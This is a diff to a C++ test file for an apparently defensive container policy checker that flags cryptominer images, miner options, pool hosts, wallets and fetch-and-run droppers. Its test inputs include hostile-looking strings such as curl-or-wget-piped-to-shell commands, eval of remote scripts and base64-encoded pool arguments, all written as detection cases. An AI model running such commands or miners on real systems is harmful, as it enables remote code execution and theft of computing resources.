@@ -132,6 +132,7 @@ TEST(MinerImageTest, LookAlikesAreClean) {
         "library/nginx@sha256:"
         "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
         "xmrig.example.com/app/web:1", "ghcr.io/acme/xmrig-dashboard-ui:2",
+        "ghcr.io/acme/xmrig-exporter:1", "acme/t-rex-runner:1", "acme/rigel-api:2",
         "ruimarinho/bitcoin-core:24", "docker123321:1", "arayan/web:1",
         "ghcr.io/acme/docker123321-tools:1"}) {
     SCOPED_TRACE(image);
@@ -329,7 +330,11 @@ TEST(DownloadExecTest, PipeToShellFromARawIpWarns) {
 }
 
 TEST(DownloadExecTest, DomainsAndPlainDownloadsAreClean) {
-  ExpectClean(WithCommand({"sh", "-c", "curl -fsSL https://get.helm.sh/install.sh | bash"}));
+  // From a domain, a fetch-and-run is only the dropper rule's audit, not this rule's warning.
+  Verdict helm = EvaluateDefault(
+      WithCommand({"sh", "-c", "curl -fsSL https://get.helm.sh/install.sh | bash"}));
+  EXPECT_EQ(FindingOf(helm, "download-exec"), nullptr) << Describe(helm);
+  EXPECT_FALSE(helm.Warned()) << Describe(helm);
   ExpectClean(WithCommand({"sh", "-c", "wget http://10.0.0.5/data.csv -O /data/in.csv"}));
   ExpectClean(WithCommand({"curl", "-s", "http://169.254.169.254/latest/meta-data/"}));
 }
@@ -372,11 +377,247 @@ TEST(CombineTest, SignalsInDifferentContainersDoNotCombine) {
 }
 
 TEST(CombineTest, TwoHitsOfTheSameSupportingRuleDoNotCombine) {
-  Verdict v = EvaluateDefault(WithArgs({"--donate-level", "1", "--randomx-1gb-pages"}));
+  // The same miner option twice is one signal; two wallets are one signal.
+  Verdict v = EvaluateDefault(WithArgs({"--donate-level", "1", "--donate-level", "1"}));
   EXPECT_FALSE(v.Denied()) << Describe(v);
   TestContainer c = WithEnv("BTC", "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa");
   c.env.emplace_back("XMR", kMoneroWallet);
   EXPECT_FALSE(EvaluateDefault(c).Denied());
+}
+
+TEST(CombineTest, TwoDifferentMinerOptionsDeny) {
+  // miner-flag combines with itself: a second, different option of a miner is a second signal,
+  // in separate arguments or inside one script.
+  Verdict v = EvaluateDefault(WithArgs({"--donate-level", "1", "--randomx-1gb-pages"}));
+  EXPECT_TRUE(v.Denied()) << Describe(v);
+  const Finding* f = FindingOf(v, "miner-flag");
+  ASSERT_NE(f, nullptr) << Describe(v);
+  EXPECT_NE(f->message.find("together with another miner option in args["), std::string::npos)
+      << f->message;
+  Verdict script = EvaluateDefault(
+      WithCommand({"sh", "-c", "./run --mining-threads 4 --daemon-rpc-address node:10102"}));
+  EXPECT_TRUE(script.Denied()) << Describe(script);
+  EXPECT_NE(FindingOf(script, "miner-flag")->message.find("together with another miner option"),
+            std::string::npos)
+      << Describe(script);
+}
+
+// ---- image words (miner-image, mining-image-word) --------------------------------------------
+
+TEST(MinerImageWordsTest, RenamedMinerImagesDeny) {
+  for (std::string image :
+       {"acme/xmrig-no-donate:6.21", "acme/xmrig_no_donate", "acme/no-donate-xmrig:1",
+        "ghcr.io/x/xmrigcc:3.3", "someone/docker_xmrig:latest", "ghcr.io/x/myxmrig",
+        "registry.example/team/XMRig.Build:7", "a/cpuminer-gr-avx2:1", "a/srbminer-multi-2:2",
+        "a/bzminer:17", "a/cryptominer:1", "a/crypto-miner:latest", "a/monero_miner:2",
+        "a/miner-xmr:1", "x/gpu-miner:3", "x/coin.miner:1", "x/y/xmr-stak-rx:1"}) {
+    SCOPED_TRACE(image);
+    TestContainer c;
+    c.image = image;
+    ExpectDenied(c, "miner-image");
+  }
+}
+
+TEST(MinerImageWordsTest, FullNodesValidatorsAndMinerToolingAreClean) {
+  for (std::string image :
+       {"sethsimmons/simple-monerod:v0.18.3.1", "ghcr.io/sethforprivacy/monero-wallet-rpc:0.18",
+        "kylemanna/bitcoind:latest", "ethereum/client-go:v1.13.5", "thorax/erigon:v2.55.1",
+        "sigp/lighthouse:v4.5.0", "gcr.io/prysmaticlabs/prysm/beacon-chain:v4.1.1",
+        "gcr.io/prysmaticlabs/prysm/validator:v4.1.1", "hyperledger/besu:23.10.2",
+        "quorumengineering/quorum:23.4", "graphprotocol/indexer-agent:v0.20",
+        "ghcr.io/acme/xmrig-exporter:1", "ghcr.io/acme/cryptominer-detector:2",
+        "datamining/spark:3.5", "acme/minerva:1", "acme/mineral-db:2", "acme/examiner:1"}) {
+    SCOPED_TRACE(image);
+    TestContainer c;
+    c.image = image;
+    ExpectClean(c);
+  }
+}
+
+TEST(MinerImageWordsTest, GenericMiningWordAloneIsOnlyAudited) {
+  for (std::string image : {"acme/log-miner:1", "acme/mining:2", "acme/monero-cpu:1",
+                            "acme/monero_pool:3", "acme/xmr.pool:1"}) {
+    SCOPED_TRACE(image);
+    TestContainer c;
+    c.image = image;
+    Verdict v = EvaluateDefault(c);
+    const Finding* f = FindingOf(v, "mining-image-word");
+    ASSERT_NE(f, nullptr) << Describe(v);
+    EXPECT_EQ(f->action, Action::kAudit);
+    EXPECT_FALSE(v.Denied()) << Describe(v);
+    EXPECT_FALSE(v.Warned()) << Describe(v);
+  }
+}
+
+TEST(MinerImageWordsTest, GenericMiningWordWithAnotherSignalDenies) {
+  ExpectDenied(WithArgs({"-u", kMoneroWallet}, "acme/monero-cpu:1"), "mining-image-word");
+  ExpectDenied(WithArgs({"--donate-level", "1"}, "acme/miner:2"), "mining-image-word");
+  ExpectDenied(WithArgs({"-o", "10.1.2.3:3333"}, "acme/hashrate-box:1"), "mining-image-word");
+}
+
+// ---- miner option families -------------------------------------------------------------------
+
+TEST(MinerFlagFamiliesTest, EachFamilyWarnsAloneAndDeniesWithAWallet) {
+  for (std::vector<std::string> option : std::vector<std::vector<std::string>>{
+           {"--daemon-rpc-address", "node.example:10102"},  // Dero
+           {"--mining-threads", "4"},                       // Dero
+           {"--give-up-limit", "3"},                        // SRBMiner
+           {"--dualmode", "KASPADUAL"},                     // lolMiner
+           {"--pool_password", "x"},                        // BzMiner
+           {"--secondary-url", "eu.example.net"},           // NBMiner
+           {"--lhr-tune", "71"},                            // T-Rex
+           {"--dual_algo", "kheavyhash"},                   // GMiner
+           {"-rigName", "rig1"},                            // nanominer
+           {"--algo", "kheavyhash"},
+           {"-a", "octopus"},
+           {"--coin", "kaspa"}}) {
+    SCOPED_TRACE(option[0]);
+    Verdict alone = EvaluateDefault(WithArgs(option, "ghcr.io/acme/worker:1"));
+    const Finding* f = FindingOf(alone, "miner-flag");
+    ASSERT_NE(f, nullptr) << Describe(alone);
+    EXPECT_EQ(f->action, Action::kWarn) << Describe(alone);
+    EXPECT_FALSE(alone.Denied()) << Describe(alone);
+    std::vector<std::string> with_wallet = option;
+    with_wallet.insert(with_wallet.end(), {"-u", kMoneroWallet});
+    ExpectDenied(WithArgs(with_wallet, "ghcr.io/acme/worker:1"), "miner-flag");
+  }
+}
+
+TEST(MinerFlagFamiliesTest, DeroMinerUnderAnInnocentImageDenies) {
+  // The CrowdStrike Dero campaign's shape: an ordinary-looking image, Dero's own options.
+  const std::string dero_wallet =
+      "dero1qyvqpdftj8r6005xs20rnflakmwa5pdxg9vcjzdcuywq2t8skqhvwqglt6x0g";
+  Verdict v = EvaluateDefault(WithArgs({"--wallet-address", dero_wallet, "--daemon-rpc-address",
+                                        "d.example.net:10100", "--mining-threads", "8"},
+                                       "docker.io/someone/pause:3"));
+  EXPECT_TRUE(v.Denied()) << Describe(v);
+}
+
+TEST(MinerFlagFamiliesTest, GethMiningOptionsAreNotEvidence) {
+  // Since the merge, geth's --mine only seals blocks on private chains (GoQuorum validators).
+  Verdict v = EvaluateDefault(WithArgs({"--mine", "--minerthreads=1", "--miner.threads", "1",
+                                        "--miner.gasprice", "0", "--syncmode", "full"},
+                                       "quorumengineering/quorum:23.4"));
+  EXPECT_TRUE(v.Empty()) << Describe(v);
+}
+
+TEST(MinerFlagFamiliesTest, LookAlikeOptionsAreClean) {
+  ExpectClean(WithArgs({"--headless", "--disable-gpu", "--no-sandbox"}, "zenika/alpine-chrome"));
+  ExpectClean(WithArgs({"--algo", "sha256", "-a", "md5", "--coin", "heads", "--wallet", "main"}));
+  ExpectClean(WithArgs({"--threads", "4", "--pool-size", "8", "--user", "app", "--pass", "x"}));
+}
+
+// ---- pool domains and pool-shaped hosts ------------------------------------------------------
+
+TEST(PoolDomainTest, WiderListCatchesPoolsWithoutAScheme) {
+  ExpectDenied(WithArgs({"-o", "cryptonote.social:5555"}), "pool-domain");
+  ExpectDenied(WithArgs({"--url", "stratum.coinminerz.com:3333"}), "pool-domain");
+  ExpectDenied(WithEnv("POOL", "xmr.kryptex.network:7777"), "pool-domain");
+}
+
+TEST(PoolHostTest, PoolShapedHostOnAMiningPortWarnsAlone) {
+  for (std::vector<std::string> args :
+       std::vector<std::vector<std::string>>{{"-o", "pool.fresh-pool.io:3333"},
+                                             {"--url=stratum.eu.example.org:14444"},
+                                             {"-o", "xmr-eu.newpool.net:10128"},
+                                             {"-o", "eu.mine.example.com:4444"},
+                                             {"-o", "monero.example.org:13333"}}) {
+    SCOPED_TRACE(args.back());
+    Verdict v = EvaluateDefault(WithArgs(args, "ghcr.io/acme/worker:1"));
+    const Finding* f = FindingOf(v, "pool-host");
+    ASSERT_NE(f, nullptr) << Describe(v);
+    EXPECT_EQ(f->action, Action::kWarn);
+    EXPECT_EQ(f->evidence.find_first_of("=\" "), std::string::npos) << "the host, no separator";
+    EXPECT_FALSE(v.Denied()) << Describe(v);
+  }
+}
+
+TEST(PoolHostTest, WithAnotherSignalDenies) {
+  ExpectDenied(WithArgs({"-o", "pool.fresh-pool.io:3333", "--donate-level", "0"}), "pool-host");
+  ExpectDenied(WithArgs({"-o", "stratum.example.org:3333"}, "acme/miner:1"), "pool-host");
+}
+
+TEST(PoolHostTest, LookAlikesHaveNoPoolHostFinding) {
+  for (std::vector<std::string> args :
+       std::vector<std::vector<std::string>>{{"--grafana", "http://pool.example.com:3333/"},
+                                             {"--pgpool", "pgpool.db.svc.cluster.local:9999"},
+                                             {"--host", "poolmanager:5555"},
+                                             {"--server", "minecraft.example.com:25565"},
+                                             {"--db", "mongodb://pool.example:27017"},
+                                             {"--cache", "redis-pool.cache.svc:6379"},
+                                             {"--url", "https://mining.example.com:4444/api"}}) {
+    SCOPED_TRACE(args.back());
+    Verdict v = EvaluateDefault(WithArgs(args));
+    EXPECT_EQ(FindingOf(v, "pool-host"), nullptr) << Describe(v);
+    EXPECT_FALSE(v.Denied()) << Describe(v);
+  }
+}
+
+// ---- dropper ---------------------------------------------------------------------------------
+
+TEST(DropperTest, FetchAndRunFromAnyHostIsAuditedAlone) {
+  for (std::vector<std::string> command : std::vector<std::vector<std::string>>{
+           {"sh", "-c", "curl -fsSL https://cdn.example.net/i.sh | sh"},
+           {"sh", "-c", "wget -qO- http://files.example.org/x | bash -s"},
+           {"bash", "-c", "source <(curl -s https://x.example/install.sh)"},
+           {"bash", "-c", "bash <(wget -qO- https://x.example/a)"},
+           {"sh", "-c", "cd /tmp && sh -c \"$(wget -O- https://x.example/a.sh)\""},
+           {"bash", "-c", "$(curl -fsSL https://x.example/a.sh)"},
+           {"sh", "-c", "eval \"$(curl -s https://x.example/env)\""},
+           {"sh", "-c", "curl -s https://x.example/a.py | python3"}}) {
+    SCOPED_TRACE(command.back());
+    Verdict v = EvaluateDefault(WithCommand(command));
+    const Finding* f = FindingOf(v, "dropper");
+    ASSERT_NE(f, nullptr) << Describe(v);
+    EXPECT_EQ(f->action, Action::kAudit);
+    EXPECT_FALSE(v.Denied()) << Describe(v);
+    EXPECT_FALSE(v.Warned()) << Describe(v);
+  }
+}
+
+TEST(DropperTest, WithAnotherSignalDenies) {
+  TestContainer c = WithCommand({"sh", "-c", "curl -s https://cdn.example.net/s.sh | bash -s"});
+  c.env = {{"WALLET", kMoneroWallet}};
+  ExpectDenied(c, "dropper");
+  ExpectDenied(WithCommand({"sh", "-c", "curl -s https://x.example/i.sh | sh"}, "acme/miner:1"),
+               "dropper");
+}
+
+TEST(DropperTest, LookAlikesAreClean) {
+  for (std::vector<std::string> command : std::vector<std::vector<std::string>>{
+           {"sh", "-c", "curl -fsSL https://x.example/a.tgz -o /tmp/a.tgz && tar xzf /tmp/a.tgz"},
+           {"sh", "-c", "curl -s https://x.example/health | jq .status"},
+           {"sh", "-c", "curl -s https://x.example/f | sha256sum -c"},
+           {"bash", "-c", "source ~/.bashrc && bash <(echo hi)"},
+           {"sh", "-c", "TOKEN=$(curl -s http://metadata/token) && ./app"}}) {
+    SCOPED_TRACE(command.back());
+    ExpectClean(WithCommand(command));
+  }
+}
+
+// ---- base64 in env values --------------------------------------------------------------------
+
+TEST(EnvBase64Test, EncodedPoolUrlAndConfigAreDecoded) {
+  // "stratum+tcp://pool.example:3333"
+  Verdict v = EvaluateDefault(WithEnv("CFG", "c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMw=="));
+  const Finding* f = FindingOf(v, "stratum-url");
+  ASSERT_NE(f, nullptr) << Describe(v);
+  EXPECT_EQ(f->field, "env[CFG]");
+  EXPECT_NE(f->message.find("(decoded from base64)"), std::string::npos) << f->message;
+  EXPECT_TRUE(v.Denied());
+  // "-o gulf.moneroocean.stream:10128 --donate-level 1"
+  ExpectDenied(
+      WithEnv("ARGS", "LW8gZ3VsZi5tb25lcm9vY2Vhbi5zdHJlYW06MTAxMjggLS1kb25hdGUtbGV2ZWwgMQ=="),
+      "pool-domain");
+}
+
+TEST(EnvBase64Test, OrdinaryEncodedValuesAreClean) {
+  TestContainer c;
+  c.env = {// {"log":"info","port":8080}
+           {"CONFIG_B64", "eyJsb2ciOiJpbmZvIiwicG9ydCI6ODA4MH0="},
+           {"TLS_CA", "MIIBszCCAVmgAwIBAgIUHq0Yy1ZyQm2dJ5xWw7r5N2J9m0kwCgYIKoZIzj0EAwIw"},
+           {"PATH_LIKE", "/usr/local/sbin/abcdefghijklmnopqrstuvwxyz"}};
+  ExpectClean(c);
 }
 
 // ---- traps that must not deny ----------------------------------------------------------------
